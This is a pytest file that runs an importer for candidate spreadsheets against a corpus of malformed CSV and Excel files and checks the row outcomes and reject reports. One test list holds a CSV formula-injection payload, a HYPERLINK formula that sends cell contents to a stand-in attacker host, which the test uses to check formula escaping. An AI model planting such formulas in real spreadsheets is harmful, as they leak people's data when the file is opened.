"""Every file of the messy-input corpus (tests/data/) through the real pipeline into the sandbox.

For each file: no traceback, one outcome per data row in results.csv, the expected status and
code per row, rejects that name the row, the column and the value, and the bodies the sandbox
received carrying the cells exactly as typed. Files that cannot be imported end in a clear
exit-2 error instead.
"""

import csv
import io
import random
import time
import zipfile
from pathlib import Path
from typing import Any

import pytest

from importer.cli import main
from importer.read.escape import REJECTS_EXTRA_COLUMNS, escape_formula
from importer.read.tables import open_table
from tests.sandboxed import DATA, DEFAULT_MAPPING, SAMPLES, Imported, import_file

CREATED = ("created", "")
MAPPINGS = DATA / "mappings"


def run(
    tmp_path: Path, name: str, mapping: str | None = None, data: Path = DATA, **options: Any
) -> Imported:
    chosen = DEFAULT_MAPPING if mapping is None else MAPPINGS / mapping
    return import_file(data / name, tmp_path / "out", chosen, **options)


def assert_rejected(
    imported: Imported,
    row: int,
    code: str,
    column: str,
    value: str,
    field: str,
    cell: str | None = None,
) -> None:
    """The row is rejected, and both reports say where (row, column, field) and what (value);
    ``cell`` is the whole cell when the value is one piece of a multi-value cell."""
    assert imported.result(row)["status"] == "rejected"
    message = imported.message(row)
    assert f'column "{column}"' in message
    assert f'"{value}"' in message
    (reject,) = [r for r in imported.rejects if r["error_row"] == str(row)]
    # the original cell, written so that Excel shows it as text (read back as typed)
    assert reject[column] == escape_formula(value if cell is None else cell)
    assert reject["error_code"].split(";")[0] == code
    assert reject["error_field"].split(";")[0] == field


def cli_error(capsys: pytest.CaptureFixture[str], *argv: str) -> str:
    """Run the CLI, expect exit 2, and give the message (never a traceback)."""
    assert main(list(argv)) == 2
    err = capsys.readouterr().err
    assert "Traceback" not in err
    assert err.startswith("importer: error: ")
    return err


def customs(body: dict[str, Any]) -> dict[str, Any]:
    return {item["name"]: item["value"] for item in body.get("custom_fields", [])}


# -- encodings and line ends -------------------------------------------------------------------


def test_bom_and_crlf_the_first_header_still_maps(tmp_path: Path) -> None:
    imported = run(tmp_path, "bom_crlf.csv")
    assert imported.outcomes() == {2: CREATED, 3: CREATED}
    assert imported.body(2)["first_name"] == "Zoë"
    assert imported.body(2)["phone_numbers"] == [{"phone": "+447911123123"}]
    assert imported.body(3)["last_name"] == "Núñez"


def test_quoted_newlines_and_delimiters_stay_in_their_cell(tmp_path: Path) -> None:
    imported = run(tmp_path, "quoted_newlines.csv")
    assert imported.outcomes() == {2: CREATED, 3: CREATED, 4: CREATED}
    smith = imported.body(2)
    assert smith["name"] == "Smith, John"
    assert customs(smith)["Notes"] == "Line one\nline two, with comma; semicolon | pipe\ttab"
    assert imported.body(3)["name"] == 'O"Brien'
    assert customs(imported.body(4))["Notes"] == 'Said "call me"'


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("cp1252.csv", {"last_name": "O’Brien", "Notes": "“Great” – call back"}),
        ("latin1.csv", {"name": "Jürgen"}),
    ],
)
def test_legacy_encodings_arrive_as_the_characters_typed(
    tmp_path: Path, name: str, expected: dict[str, str]
) -> None:
    imported = run(tmp_path, name)
    assert imported.outcomes() == {2: CREATED, 3: CREATED}
    body = imported.body(3)
    assert {key: body.get(key, customs(body).get(key)) for key in expected} == expected


def test_semicolon_delimiter_with_quoted_semicolon_and_decimal_comma(tmp_path: Path) -> None:
    imported = run(tmp_path, "semicolon.csv", "semicolon.yaml")
    assert imported.outcomes() == {2: CREATED, 3: CREATED}
    assert customs(imported.body(2)) == {"Gehalt": "1.234,50"}
    assert imported.body(3)["first_name"] == "Hans; Peter"


@pytest.mark.parametrize(
    ("name", "first_name"),
    [
        ("tab.tsv", "Lee, Ann"),
        ("pipe.txt", "Ann, Lee"),
        ("utf16_tab.txt", "Zoë"),
        ("cr_line_ends.csv", "Ann"),
        ("excel_sep_line.csv", "Lee, Ann"),
    ],
)
def test_other_delimiters_encodings_and_line_ends(
    tmp_path: Path, name: str, first_name: str
) -> None:
    imported = run(tmp_path, name)
    rows = imported.outcomes()
    assert rows == dict.fromkeys(range(2, len(rows) + 2), CREATED)
    assert imported.body(2)["name"] == first_name


# -- shape: ragged rows, blank rows and columns, headers ---------------------------------------


def test_ragged_rows_are_rejected_trailing_separators_are_not(tmp_path: Path) -> None:
    imported = run(tmp_path, "ragged.csv")
    ragged = ("rejected", "ragged-row")
    assert imported.outcomes() == {2: CREATED, 3: ragged, 4: ragged, 5: CREATED, 6: CREATED}
    assert imported.message(3).startswith("row has 2 cells but the header has 3")
    assert "extra cells: 'extra'" in imported.message(4)
    assert [(r["error_row"], r["Name"]) for r in imported.rejects] == [("3", "Bob"), ("4", "Cy")]


def test_blank_rows_are_skipped_blank_columns_ignored(tmp_path: Path) -> None:
    imported = run(tmp_path, "blank_rows_cols.csv")
    blank = ("skipped", "blank-row")
    # The blank rows after the last row with values are not data rows: they get no outcome.
    assert imported.outcomes() == {2: CREATED, 3: blank, 4: blank, 5: blank, 6: CREATED}
    assert imported.body(6) == {"name": "Bob", "email": "bob@example.com"}


def test_a_repeated_header_the_mapping_reads_is_a_clear_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "out"
    path = str(DATA / "duplicate_headers.csv")
    err = cli_error(capsys, "validate", path, "--mapping", str(DEFAULT_MAPPING), "--out", str(out))
    assert (
        'the header row has the same column twice: "Email" matches column 1 (A) "Email" and '
        'column 4 (D) "Email"; rename one of them'
    ) in err
    assert not (out / "results.csv").exists()


def test_repeated_and_empty_headers_the_mapping_does_not_read_are_ignored(tmp_path: Path) -> None:
    imported = run(tmp_path, "duplicate_headers.csv", "duplicate_headers.yaml")
    assert imported.outcomes() == {2: CREATED}
    assert imported.body(2) == {"name": "Ann", "phone_numbers": [{"phone": "+447911123001"}]}


def test_header_row_below_a_title_keeps_spreadsheet_row_numbers(tmp_path: Path) -> None:
    imported = run(tmp_path, "header_row_3.csv", header_row=3)
    assert imported.outcomes() == {4: CREATED, 5: CREATED}
    assert imported.body(5) == {"first_name": "Bob", "last_name": "Ray", "email": "bob@example.com"}


def test_without_header_row_the_header_is_found_below_the_title(tmp_path: Path) -> None:
    imported = run(tmp_path, "header_row_3.csv")
    assert imported.outcomes() == {4: CREATED, 5: CREATED}


def test_a_header_row_on_the_title_shows_the_title_taken_for_headers(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    data = str(DATA / "header_row_3.csv")
    out = str(tmp_path / "out")
    err = cli_error(
        capsys, "validate", data, "-m", str(DEFAULT_MAPPING), "--header-row", "1", "-o", out
    )
    assert "the headers are: Candidate export from LegacyATS" in err


@pytest.mark.parametrize("name", ["empty.csv", "blank_lines_only.csv"])
def test_a_file_without_a_header_is_a_clear_error(
    capsys: pytest.CaptureFixture[str], name: str
) -> None:
    err = cli_error(capsys, "validate", str(DATA / name), "-m", str(DEFAULT_MAPPING))
    assert "is empty: it needs a header row with the column names" in err


# -- quotes that swallow lines ----------------------------------------------------------------


def test_a_stray_quote_rejects_its_rows_and_reads_the_lines_it_swallowed(tmp_path: Path) -> None:
    imported = run(tmp_path, "unbalanced_quote.csv")
    unbalanced = ("rejected", "unbalanced-quote")
    assert imported.outcomes() == {
        **dict.fromkeys([2, 3, 5, 6, 7, 9], CREATED),
        4: unbalanced,
        8: unbalanced,
    }
    assert imported.summary.counts.rows == 8  # rows 2-9: every line of the file
    assert [imported.body(n)["email"] for n in (5, 6, 7)] == [
        "di@example.com",
        "ed@example.com",
        "flo@example.com",
    ]
    assert "they are read as rows 5–7, and row 8, where the quote closes" in imported.message(4)
    opening, closing = imported.rejects
    assert (opening["error_row"], opening["error_field"], opening["Last Name"]) == (
        "4",
        "Last Name",
        '"Young',  # the quote where it was typed, to be fixed in rejects.csv
    )
    assert (closing["error_row"], closing["Email"]) == ("8", "gus@example.com")


def test_an_unclosed_quote_refuses_the_file_before_anything_is_sent(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "out"
    path = str(DATA / "unclosed_quote.csv")
    err = cli_error(capsys, "run", path, "-m", str(DEFAULT_MAPPING), "--sandbox", "--out", str(out))
    assert (
        'the quote (") that opens a cell on row 3 is never closed: it swallows the 2 lines after '
        "it, to the end of the file"
    ) in err
    assert not (out / "results.csv").exists()


# -- files that are not spreadsheets ----------------------------------------------------------


def _zip(*names: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in names:
            archive.writestr(name, "<x/>")
    return buffer.getvalue()


NOT_SPREADSHEETS = {
    "a PDF document": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n",
    "a PNG image": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01",
    "a JPEG image": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01" + bytes(range(256)),
    "a program (ELF executable)": b"\x7fELF\x02\x01\x01\x00" + bytes(200),
    "binary data, not text": random.Random(16).randbytes(4096),
    "a zip archive": _zip("notes.txt"),
    "a Word document": _zip("[Content_Types].xml", "word/document.xml"),
}


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
@pytest.mark.parametrize("what", sorted(NOT_SPREADSHEETS))
def test_a_file_that_is_not_a_spreadsheet_is_refused_as_what_it_is(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], what: str, suffix: str
) -> None:
    path = tmp_path / f"candidates{suffix}"
    path.write_bytes(NOT_SPREADSHEETS[what])
    err = cli_error(capsys, "validate", str(path), "-m", str(DEFAULT_MAPPING))
    assert f"{path} is not a spreadsheet: it looks like {what}; " in err


def test_a_workbook_named_csv_and_a_csv_named_xlsx_are_told_to_be_renamed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    workbook = tmp_path / "export.csv"
    workbook.write_bytes((SAMPLES / "candidates.xlsx").read_bytes())
    err = cli_error(capsys, "validate", str(workbook), "-m", str(DEFAULT_MAPPING))
    assert "is an Excel workbook with a .csv name: rename it to .xlsx" in err
    text = tmp_path / "export.xlsx"
    text.write_bytes((SAMPLES / "candidates.csv").read_bytes())
    err = cli_error(capsys, "validate", str(text), "-m", str(DEFAULT_MAPPING))
    assert "is a text file, not an .xlsx workbook: if it holds rows separated by" in err


# -- rows too large to send --------------------------------------------------------------------

NOTES_MAPPING = MAPPINGS / "notes.yaml"


def test_a_row_too_large_for_one_request_is_rejected_naming_its_column(tmp_path: Path) -> None:
    path = tmp_path / "long_notes.csv"
    path.write_text(
        "First Name,Last Name,Email,Notes,Attachment\r\n"
        f"Ann,Lee,ann@example.com,{'x' * 1_200_000},\r\n"
        f"Bob,Ray,bob@example.com,short,{'y' * 3_000_000}\r\n",  # not mapped: never sent
        encoding="utf-8",
    )
    for dry_run in (True, False):
        imported = import_file(path, tmp_path / f"out-{dry_run}", NOTES_MAPPING, dry_run=dry_run)
        bob = ("not_attempted", "") if dry_run else CREATED
        assert imported.outcomes() == {2: ("rejected", "too-large"), 3: bob}
        assert imported.message(2) == (
            "the request for this row would be 1.2 MB, more than the 1 MB that can be sent; "
            'column "Notes" holds 1,200,000 characters: shorten the cell, or leave the column '
            "out of the mapping"
        )
        (reject,) = imported.rejects
        assert (reject["error_code"], reject["error_field"]) == ("too-large", "Notes")
    assert imported.summary.requests_by_status == {"201": 1}


def test_a_cell_past_the_reading_limit_stops_the_file_with_the_flag_to_raise_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "huge_cell.csv"
    path.write_text(f"Name,Notes\r\nAnn,ok\r\nBob,{'z' * (1024 * 1024 + 1)}\r\n")
    argv = ["validate", str(path), "-m", str(NOTES_MAPPING), "--out", str(tmp_path / "out")]
    err = cli_error(capsys, *argv, "--max-cell-mb", "1")
    assert "row 3 has a cell longer than 1 MB (the longest cell the importer reads)" in err
    assert "raise the limit with --max-cell-mb 4" in err
    assert "never closed" not in err


# -- reports that Excel opens safely and that import again ------------------------------------

RISKY = [
    '=HYPERLINK("http://evil.example/?"&A2,"CV")',
    "+44 20 7946 0958",
    "-",
    "@SUM(1+1)",
    "'=typed with an apostrophe",
    "'s-Hertogenbosch",
]


def test_rejects_csv_is_formula_safe_in_the_input_delimiter_and_reads_back_as_typed(
    tmp_path: Path,
) -> None:
    path = tmp_path / "european.csv"
    rows = [["Ann", "ann@example.com", *RISKY], ["Bob", "bob@", *RISKY]]  # Bob is rejected
    header = ["Name", "Email", "Notes", "Phone", "Dash", "At", "Apostrophe", "City"]
    with path.open("w", newline="", encoding="utf-8") as f:
        csv.writer(f, delimiter=";").writerows([header, *rows])
    imported = run(tmp_path, "european.csv", data=tmp_path, dry_run=True)
    assert imported.outcomes() == {2: ("not_attempted", ""), 3: ("rejected", "invalid-email")}
    text = (tmp_path / "out" / "rejects.csv").read_text(encoding="utf-8-sig")
    assert text.splitlines()[0] == ";".join([*header, *REJECTS_EXTRA_COLUMNS])
    (reject,) = imported.rejects
    written = [reject[column] for column in header[2:]]
    assert written == ["'" + cell if cell != "'s-Hertogenbosch" else cell for cell in RISKY]
    with open_table(tmp_path / "out" / "rejects.csv") as table:
        (again,) = list(table.rows)
    assert list(again.values[: len(header)]) == rows[1]  # as typed, apostrophes included


# -- the reports' folder ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("out", "message"),
    [
        ("a-file.txt", "is a file, not a folder: give a folder for the reports"),
        ("/", "is a system or home folder: give a folder of the reports' own"),
        ("/etc", "is a system or home folder: give a folder of the reports' own"),
        ("/proc/no/such", "cannot make the --out folder /proc/no/such: No such file or directory"),
    ],
)
def test_an_out_folder_the_reports_must_not_go_to_is_refused_before_anything_is_sent(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], out: str, message: str
) -> None:
    (tmp_path / "a-file.txt").write_text("keep me")
    target = out if out.startswith("/") else str(tmp_path / out)
    sample = str(SAMPLES / "candidates.csv")
    err = cli_error(capsys, "run", sample, "-m", str(DEFAULT_MAPPING), "--sandbox", "--out", target)
    assert message in err
    assert (tmp_path / "a-file.txt").read_text() == "keep me"


def test_rejects_imported_again_never_overwrite_the_reports_beside_them(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    sample, mapping = str(SAMPLES / "candidates.csv"), str(DEFAULT_MAPPING)
    assert main(["validate", sample, "-m", mapping, "--quiet"]) == 1
    first = tmp_path / "out" / "candidates" / "rejects.csv"
    assert main(["validate", str(first), "-m", mapping, "--quiet"]) == 1
    second = tmp_path / "out" / "rejects" / "rejects.csv"  # out/<input name>, as always
    before = second.read_bytes()
    assert main(["validate", str(second), "-m", mapping, "--quiet"]) == 1
    assert (tmp_path / "out" / "rejects-2" / "rejects.csv").exists()  # not its own folder
    assert second.read_bytes() == before
    capsys.readouterr()
    err = cli_error(capsys, "validate", str(second), "-m", mapping, "--out", str(second.parent))
    assert "is the folder of" in err
    assert "the reports would replace the ones there" in err


# -- values Excel or a type-guessing reader would mangle ---------------------------------------


def test_text_values_are_sent_exactly_as_typed(tmp_path: Path) -> None:
    imported = run(tmp_path, "text_values.csv", "text_values.yaml")
    # +1 (555) 010-9999 is a number of the length of a US one, in a range given to no one
    assert imported.outcomes() == {2: CREATED, 3: ("rejected", "invalid-phone;missing-name")}
    assert imported.body(2) == {
        "name": "Al",
        "country": "NA",  # Namibia, not a missing value
        "phone_numbers": [{"phone": "+447911123123"}],
        "passthrough": {"legacy_id": "007"},
        "custom_fields": [
            {"name": "Middle Name", "value": "null"},
            {"name": "Score", "value": "1.50"},
            {"name": "Zip", "value": "02134"},
            {"name": "Flag", "value": True},
        ],
    }
    assert imported.message(3).endswith('; the row has no name; fill in "Nickname"')


def test_scientific_notation_typed_as_text_is_precision_lost_and_never_sent(
    tmp_path: Path,
) -> None:
    imported = run(tmp_path, "text_values.csv", "text_values_excel_phone.yaml")
    assert imported.outcomes() == {
        2: ("rejected", "precision-lost"),
        3: ("rejected", "invalid-phone;precision-lost;missing-name"),
    }
    assert_rejected(
        imported, 2, "precision-lost", "Excel Phone", "4.47701E+11", "phone_numbers[1].phone"
    )
    assert 'column "Excel Phone": "1.23457E+15" is a number that Excel shortened' in (
        imported.message(3)
    )
    assert imported.bodies == {}
    assert imported.summary.requests_by_status == {}


def test_scientific_notation_with_a_decimal_comma_is_precision_lost_not_split(
    tmp_path: Path,
) -> None:
    imported = run(tmp_path, "scientific_decimal_comma.csv", "scientific_decimal_comma.yaml")
    assert imported.outcomes() == {2: ("rejected", "precision-lost"), 3: CREATED}
    assert_rejected(imported, 2, "precision-lost", "Phone", "4,47701E+11", "phone_numbers[0].phone")
    assert imported.body(3)["phone_numbers"] == [
        {"phone": "+447911123123"},
        {"phone": "+442079460000"},
    ]


def test_excel_text_formulas_arrive_as_the_text_excel_shows(tmp_path: Path) -> None:
    # an export that wrapped cells in ="..." so that Excel keeps their leading zeros
    imported = run(tmp_path, "excel_text_formulas.csv")
    assert imported.outcomes() == {2: CREATED, 3: CREATED, 4: CREATED}
    assert imported.result(4)["warnings"].startswith('kept-as-typed: column "Phone": "0207946095"')
    ada = imported.body(2)
    assert ada["phone_numbers"] == [
        {"phone": "+447911123123", "type": "mobile"},
        {"phone": "+442079460958"},
    ]
    assert ada["hired_at"].startswith("2024-03-01")
    assert imported.body(3)["email"] == "grace@example.com"
    assert imported.body(3)["phone_numbers"] == [{"phone": "+12025550199"}]
    # one digit short: kept as the person sees it, not as the formula they never typed
    assert imported.body(4)["phone_numbers"] == [{"phone": "0207946095"}]


def test_invisible_characters_are_taken_out_with_a_warning(tmp_path: Path) -> None:
    # NUL padding from a fixed-width export, a vertical tab (a space), a DEL, a zero-width space
    # and a byte-order mark copied from web pages: never sent; a notes-style line break inside
    # quotes is text and stays
    imported = run(tmp_path, "invisible_characters.csv")
    assert imported.outcomes() == {
        2: CREATED,
        3: CREATED,
        4: CREATED,
        5: ("rejected", "duplicate-in-file"),  # the same address as row 4's, as both are seen
    }
    ada = imported.body(2)
    names = (ada["first_name"], ada["last_name"], ada["title"])
    assert names == ("Ada", "Lovelace", "Principal Engineer")
    assert "company" not in ada  # nothing but NULs: left out, as an empty cell is
    warnings = imported.result(2)["warnings"].split(" | ")
    assert [w.split(":")[0] for w in warnings] == ["invisible-removed"] * 4
    assert 'column "Company": "\\u0000\\u0000\\u0000\\u0000"' in warnings[2]
    grace = imported.body(3)
    assert (grace["company"], grace["title"]) == ("US Navy", "Rear Admiral\r\n(retired)")
    alan = imported.body(4)
    assert alan["email"] == "alan@example.com"
    assert alan["social_links"] == [{"url": "https://www.linkedin.com/in/alan", "type": "linkedin"}]
    assert imported.summary.counts.by_warning == {"invisible-removed": 7}


def test_phones_stored_as_numbers_arrive_whole(tmp_path: Path) -> None:
    imported = run(tmp_path, "phones_as_numbers.xlsx", "phones_as_numbers.yaml")
    assert imported.outcomes() == {2: CREATED, 3: CREATED}
    assert imported.body(2) == {
        "name": "Ann",
        "phone_numbers": [{"phone": "+447700112233"}, {"phone": "+447911123123", "type": "mobile"}],
        "passthrough": {"legacy_id": "000123"},
        "custom_fields": [{"name": "Years", "value": 7}, {"name": "Active", "value": True}],
    }
    bob = imported.body(3)
    assert bob["name"] == "Bob"
    assert bob["phone_numbers"][0] == {"phone": "+447701000000"}
    assert customs(bob) == {"Years": 12, "Active": False}  # 12.0 in the sheet


def test_a_phone_excel_shortened_in_a_workbook_is_precision_lost(tmp_path: Path) -> None:
    imported = run(tmp_path, "phones_as_numbers.xlsx", "phones_as_numbers_excel_phone.yaml")
    lost = ("rejected", "precision-lost")
    assert imported.outcomes() == {2: lost, 3: lost}
    assert_rejected(
        imported, 2, "precision-lost", "Excel Phone", "4.47701E+11", "phone_numbers[1].phone"
    )
    assert imported.bodies == {}


def test_date_cells_and_serial_numbers_become_date_times(tmp_path: Path) -> None:
    imported = run(tmp_path, "dates.xlsx", "dates.yaml")
    assert imported.outcomes() == {2: CREATED, 3: CREATED}
    ann, bob = imported.body(2), imported.body(3)
    assert (ann["hired_at"], bob["hired_at"]) == (
        "2024-03-01T00:00:00.000Z",
        "2024-02-29T00:00:00.000Z",  # a day-first display format changes nothing
    )
    assert customs(ann) == {
        "Interview": "2024-03-01T09:30:00.000Z",
        "Serial": "2024-03-01T00:00:00.000Z",  # 45352
        "Start Time": "09:30:00",
        "Notice": "36:30:00",
    }
    assert customs(bob)["Serial"] == "2024-02-29T12:00:00.000Z"  # 45351.5


def test_formulas_give_their_cached_values(tmp_path: Path) -> None:
    imported = run(tmp_path, "formulas.xlsx", "formulas.yaml")
    assert imported.outcomes() == {2: CREATED, 3: CREATED}
    assert imported.body(2) == {
        "name": "Ann Lee",
        "phone_numbers": [{"phone": "+447700112233"}],
        "custom_fields": [{"name": "Senior", "value": True}],
    }
    assert customs(imported.body(3)) == {"Senior": False}


def test_error_cells_arrive_as_their_text_and_are_no_value(tmp_path: Path) -> None:
    # #N/A is the mapping's empty value; #DIV/0! is no value either, whatever the field
    imported = run(tmp_path, "errors.xlsx", "errors.yaml")
    assert imported.outcomes() == {2: CREATED, 3: CREATED}
    assert "custom_fields" not in imported.body(2)
    assert imported.result(2)["warnings"] == (
        'value-dropped: column "Ratio": "#DIV/0!" is what Excel shows for a formula it could not '
        "compute, not a value: left out"
    )
    assert customs(imported.body(3)) == {"Recruiter": "Cy", "Ratio": 2}


# -- workbook structure ------------------------------------------------------------------------


def test_merged_cells_hold_their_value_in_the_first_row_only(tmp_path: Path) -> None:
    imported = run(tmp_path, "merged.xlsx", "merged.yaml")
    assert imported.outcomes() == {2: CREATED, 3: CREATED, 4: ("rejected", "invalid-email")}
    assert customs(imported.body(2)) == {"Team": "Sales"}
    assert "custom_fields" not in imported.body(3)
    assert_rejected(imported, 4, "invalid-email", "Email", "to be confirmed", "email")
    # Excel shows "Sales" in row 3 too: the summary says that row is sent without it
    assert imported.summary.notices == [
        'the sheet merges cells over several rows: A2:A3 ("Team"); Excel shows a merge\'s value '
        "in each of its rows, but the file holds it in the first row only, so the other rows are "
        "sent without it: unmerge the cells and fill them in to send it with every row"
    ]


def test_the_first_visible_sheet_is_read_and_others_by_name(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    first = run(tmp_path / "first", "hidden_sheet.xlsx")
    assert first.outcomes() == {2: CREATED}
    assert first.body(2) == {"name": "Ann", "email": "ann@example.com"}
    archive = run(tmp_path / "archive", "hidden_sheet.xlsx", sheet="Archive")
    assert archive.body(2) == {"name": "Old", "email": "old@example.com"}
    path = str(DATA / "hidden_sheet.xlsx")
    err = cli_error(capsys, "validate", path, "-m", str(DEFAULT_MAPPING), "--sheet", "Lookup")
    assert "the headers are: Code, Label" in err


def test_a_used_range_of_1048576_rows_imports_its_real_rows_quickly(tmp_path: Path) -> None:
    started = time.perf_counter()
    imported = run(tmp_path, "used_range_1048576.xlsx")
    assert time.perf_counter() - started < 5
    assert imported.outcomes() == dict.fromkeys([2, 3, 4, 5], CREATED)
    assert imported.body(5)["phone_numbers"] == [{"phone": "+447911123004"}]


def test_a_table_lower_down_keeps_its_sheet_row_numbers(tmp_path: Path) -> None:
    imported = run(tmp_path, "offset.xlsx", header_row=3)
    blank = ("skipped", "blank-row")
    assert imported.outcomes() == {
        4: CREATED,
        5: blank,
        6: CREATED,
        7: blank,
        8: CREATED,  # a stray value past the header is in a column without one, not sent
    }
    assert imported.body(4)["phone_numbers"] == [{"phone": "+447911123001"}]  # a number cell
    assert imported.body(8) == {"name": "Cy", "email": "cy@example.com"}


# -- multi-value cells -------------------------------------------------------------------------


def test_multi_value_cells_first_email_every_phone_every_link(tmp_path: Path) -> None:
    imported = run(tmp_path, "multi_value.csv")
    assert imported.outcomes() == dict.fromkeys([2, 3, 4, 5], CREATED)
    ann = imported.body(2)
    assert ann["email"] == "ann@example.com"
    assert ann["phone_numbers"] == [{"phone": "+442079460000"}, {"phone": "+447911123001"}]
    assert ann["social_links"] == [
        {"url": "https://www.linkedin.com/in/annlee", "type": "linkedin"},
        {"url": "https://github.com/annlee", "type": "github"},
    ]
    bob = imported.body(3)
    assert bob["email"] == "bob@example.com"
    assert bob["phone_numbers"] == [{"phone": "+14155550100"}, {"phone": "+14155550101"}]
    assert bob["social_links"] == [
        {"url": "https://bobray.example.com", "type": "website"},
        {"url": "https://x.com/bobray", "type": "twitter"},
    ]
    cy = imported.body(4)
    assert (cy["email"], cy["phone_numbers"]) == ("cy@example.com", [{"phone": "+442079460002"}])
    # the mapping keeps numbers it cannot read, but two digits are no number: left out, with a
    # warning naming the cell
    assert imported.body(5)["phone_numbers"] == [{"phone": "+442079460003"}]
    assert imported.result(5)["warnings"] == (
        'value-dropped: column "Phones": "12" is not a phone number: it has 2 digits, and none '
        "has fewer than 3; correct it or clear the cell; left out"
    )
    # the request has one e-mail: Ann's and Bob's second addresses are named, not lost unseen
    assert imported.summary.counts.by_warning == {"value-dropped": 1, "extra-values-dropped": 2}
    assert imported.result(2)["warnings"].startswith('extra-values-dropped: column "Emails"')


# -- the corpus is covered ---------------------------------------------------------------------

CORPUS = {
    path.name for suffix in ("*.csv", "*.tsv", "*.txt", "*.xlsx") for path in DATA.glob(suffix)
}


def test_every_corpus_file_has_an_end_to_end_test() -> None:
    source = Path(__file__).read_text(encoding="utf-8")
    assert sorted(name for name in CORPUS if f'"{name}"' not in source) == []
